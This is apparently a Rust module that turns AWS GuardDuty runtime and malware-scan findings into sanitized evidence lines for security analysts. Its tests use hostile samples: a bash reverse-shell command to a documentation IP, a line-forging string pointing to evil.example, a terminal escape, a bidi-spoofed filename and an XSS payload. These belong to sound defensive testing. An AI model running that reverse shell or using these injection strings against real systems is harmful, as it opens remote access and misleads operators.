//! What GuardDuty saw on the host, for the analysts who decide: Runtime Monitoring's process,
//! its lineage and the context of the finding (`service.runtimeDetails`), and Malware
//! Protection for EC2's detections (`service.ebsVolumeScanDetails.scanDetections`).
//!
//! Every string here was written on the compromised host: file paths, process names and
//! command lines are the attacker's to choose. They are kept short ([`MAX_TEXT`] characters,
//! a few entries), never decide anything, and are shown only through [`shown`] (control
//! characters written out, so a path cannot forge a line of a message) and, in HTML, escaped
//! by the page. GuardDuty's documentation of the fields: "Runtime details"
//! (<https://docs.aws.amazon.com/guardduty/latest/ug/guardduty_findings-summary.html>) and the
//! API reference's `RuntimeContext`, `ProcessDetails` and `ScanDetections`.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};
use serde_json::Value;

/// The longest text kept from the host, in characters.
pub const MAX_TEXT: usize = 256;
/// The most ancestors kept from a process's lineage.
pub const MAX_LINEAGE: usize = 5;
/// The most malware detections kept.
pub const MAX_DETECTIONS: usize = 10;

/// The context fields kept, in the order they are shown: `(GuardDuty's field, label)`. A
/// nested process is kept by its executable path.
const CONTEXT_FIELDS: &[(&str, &str)] = &[
    ("commandLineExample", "command line (example)"),
    ("scriptPath", "script"),
    ("threatFilePath", "threat file"),
    ("toolName", "tool"),
    ("toolCategory", "tool category"),
    ("libraryPath", "library"),
    ("ldPreloadValue", "LD_PRELOAD"),
    ("moduleName", "kernel module"),
    ("moduleFilePath", "kernel module file"),
    ("moduleSha256", "kernel module SHA-256"),
    ("fileOperation", "file operation"),
    ("filePath", "file"),
    ("mountSource", "mount source"),
    ("mountTarget", "mount target"),
    ("socketPath", "socket"),
    ("releaseAgentPath", "release agent"),
    ("runcBinaryPath", "runc binary"),
    ("shellHistoryFilePath", "shell history file"),
    ("serviceName", "service"),
    ("modifyingProcess", "modified by"),
    ("targetProcess", "target process"),
];

/// A process as GuardDuty reports it.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Process {
    /// The process name.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    /// The executable's path.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub executable_path: Option<String>,
    /// The executable's SHA-256.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub executable_sha256: Option<String>,
    /// The process id (on the host).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pid: Option<u64>,
    /// The user it ran as.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user: Option<String>,
}

/// A file Malware Protection found a threat in.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Detection {
    /// The threat's name.
    pub threat: String,
    /// The infected file.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub file_path: Option<String>,
    /// The file's hash.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub hash: Option<String>,
}

/// What GuardDuty saw on the host.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct HostEvidence {
    /// The process behind the finding.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub process: Option<Process>,
    /// Its ancestors, nearest first.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub lineage: Vec<Process>,
    /// The finding's context, by GuardDuty's field name.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub context: BTreeMap<String, String>,
    /// Malware Protection's detections.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub malware: Vec<Detection>,
}

/// Host text cut to [`MAX_TEXT`] characters; `None` when empty.
fn clip(v: Option<&Value>) -> Option<String> {
    let s = match v? {
        Value::String(s) => s.clone(),
        Value::Number(n) => n.to_string(),
        _ => return None,
    };
    let s = s.trim();
    (!s.is_empty()).then(|| s.chars().take(MAX_TEXT).collect())
}

fn process(v: &Value) -> Option<Process> {
    let p = Process {
        name: clip(v.get("name")),
        executable_path: clip(v.get("executablePath")),
        executable_sha256: clip(v.get("executableSha256")),
        pid: v.get("pid").and_then(Value::as_u64),
        user: clip(v.get("user")),
    };
    (p != Process::default()).then_some(p)
}

impl HostEvidence {
    /// Reads the evidence from a finding's `service`; `None` when it has none.
    pub fn parse(service: Option<&Value>) -> Option<HostEvidence> {
        let service = service?;
        let runtime = service.get("runtimeDetails");
        let proc_value = runtime.and_then(|r| r.get("process"));
        let mut e = HostEvidence {
            process: proc_value.and_then(process),
            lineage: proc_value
                .and_then(|p| p.get("lineage"))
                .and_then(Value::as_array)
                .map(|l| l.iter().filter_map(process).take(MAX_LINEAGE).collect())
                .unwrap_or_default(),
            ..HostEvidence::default()
        };
        if let Some(ctx) = runtime.and_then(|r| r.get("context")) {
            for (field, _) in CONTEXT_FIELDS {
                let v = ctx.get(*field);
                let text = match v {
                    Some(Value::Object(_)) => v.and_then(|p| {
                        clip(p.get("executablePath")).or_else(|| clip(p.get("name")))
                    }),
                    other => clip(other),
                };
                if let Some(t) = text {
                    e.context.insert((*field).to_string(), t);
                }
            }
        }
        let threats = service
            .pointer("/ebsVolumeScanDetails/scanDetections/threatDetectedByName/threatNames")
            .and_then(Value::as_array);
        for t in threats.into_iter().flatten() {
            let Some(threat) = clip(t.get("name")) else {
                continue;
            };
            let paths: Vec<&Value> = t
                .get("filePaths")
                .and_then(Value::as_array)
                .map(|p| p.iter().collect())
                .unwrap_or_default();
            if paths.is_empty() {
                e.malware.push(Detection {
                    threat: threat.clone(),
                    ..Detection::default()
                });
            }
            for p in paths {
                e.malware.push(Detection {
                    threat: threat.clone(),
                    file_path: clip(p.get("filePath")),
                    hash: clip(p.get("hash")),
                });
            }
        }
        e.malware.truncate(MAX_DETECTIONS);
        (e != HostEvidence::default()).then_some(e)
    }

    /// The evidence as lines for a person, every host value through [`shown`]: the process,
    /// the context, the detections, then the ancestors.
    pub fn lines(&self) -> Vec<String> {
        let mut out = Vec::new();
        let proc_line = |p: &Process| {
            let mut parts = Vec::new();
            if let Some(x) = &p.executable_path {
                parts.push(shown(x));
            } else if let Some(n) = &p.name {
                parts.push(shown(n));
            }
            if let Some(pid) = p.pid {
                parts.push(format!("pid {pid}"));
            }
            if let Some(u) = &p.user {
                parts.push(format!("user {}", shown(u)));
            }
            if let Some(h) = &p.executable_sha256 {
                parts.push(format!("sha256 {}", shown(h)));
            }
            parts.join(", ")
        };
        if let Some(p) = &self.process {
            out.push(format!("process: {}", proc_line(p)));
        }
        for (field, label) in CONTEXT_FIELDS {
            if let Some(v) = self.context.get(*field) {
                out.push(format!("{label}: {}", shown(v)));
            }
        }
        for d in &self.malware {
            let mut line = format!("malware: {}", shown(&d.threat));
            if let Some(p) = &d.file_path {
                line.push_str(&format!(" in {}", shown(p)));
            }
            if let Some(h) = &d.hash {
                line.push_str(&format!(" (hash {})", shown(h)));
            }
            out.push(line);
        }
        // The ancestors last: the first lines are the ones a short view (the approval page)
        // keeps.
        for (i, p) in self.lineage.iter().enumerate() {
            out.push(format!("parent {}: {}", i + 1, proc_line(p)));
        }
        out
    }
}

/// A host value as it may be shown in a message: control characters (a newline that would
/// forge a line, an escape sequence for a terminal) and the Unicode bidirectional overrides
/// written out as `\u{..}`, cut to [`MAX_TEXT`] characters.
pub fn shown(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars().take(MAX_TEXT) {
        let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}');
        if c.is_control() || bidi {
            out.push_str(&format!("\\u{{{:x}}}", c as u32));
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn runtime_process_lineage_and_context_are_read_and_cut() {
        let long = "x".repeat(MAX_TEXT + 100);
        let service = json!({"runtimeDetails": {
            "process": {"name": "sh", "executablePath": "/bin/sh", "pid": 4242, "user": "www-data",
                "executableSha256": "ab12",
                "lineage": [{"name": "nginx", "executablePath": "/usr/sbin/nginx", "pid": 1}, {}]},
            "context": {"commandLineExample": "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                "scriptPath": long, "modifyingProcess": {"executablePath": "/tmp/.x/dropper"},
                "unknownField": "ignored"}}});
        let e = HostEvidence::parse(Some(&service)).expect("evidence");
        let p = e.process.as_ref().expect("process");
        assert_eq!(p.executable_path.as_deref(), Some("/bin/sh"));
        assert_eq!(p.pid, Some(4242));
        assert_eq!(e.lineage.len(), 1, "an empty ancestor is dropped");
        assert_eq!(e.context["scriptPath"].chars().count(), MAX_TEXT);
        assert_eq!(e.context["modifyingProcess"], "/tmp/.x/dropper");
        assert!(!e.context.contains_key("unknownField"));
        let lines = e.lines();
        assert_eq!(
            lines[0],
            "process: /bin/sh, pid 4242, user www-data, sha256 ab12"
        );
        assert_eq!(
            lines.last().map(String::as_str),
            Some("parent 1: /usr/sbin/nginx, pid 1")
        );
        assert!(lines
            .iter()
            .any(|l| l == "command line (example): bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"));
    }

    #[test]
    fn malware_detections_are_read_per_file() {
        let service = json!({"ebsVolumeScanDetails": {"scanDetections": {"threatDetectedByName": {
            "threatNames": [{"name": "EICAR-Test-File", "severity": "MEDIUM",
                "filePaths": [{"filePath": "/home/ec2-user/eicar.com", "hash": "275a021b"},
                              {"filePath": "/tmp/eicar2.com"}]}]}}}});
        let e = HostEvidence::parse(Some(&service)).expect("evidence");
        assert_eq!(e.malware.len(), 2);
        assert_eq!(
            e.lines()[0],
            "malware: EICAR-Test-File in /home/ec2-user/eicar.com (hash 275a021b)"
        );
    }

    #[test]
    fn host_text_cannot_forge_lines_or_reorder_text() {
        for (raw, want) in [
            (
                "/tmp/a\nApprove: https://evil.example/",
                "/tmp/a\\u{a}Approve: https://evil.example/",
            ),
            ("\u{1b}[2J/bin/x", "\\u{1b}[2J/bin/x"),
            ("/tmp/\u{202e}gpj.exe", "/tmp/\\u{202e}gpj.exe"),
            ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ] {
            assert_eq!(shown(raw), want);
        }
        assert!(HostEvidence::parse(Some(&json!({"count": 3}))).is_none());
        assert!(HostEvidence::parse(None).is_none());
    }
}
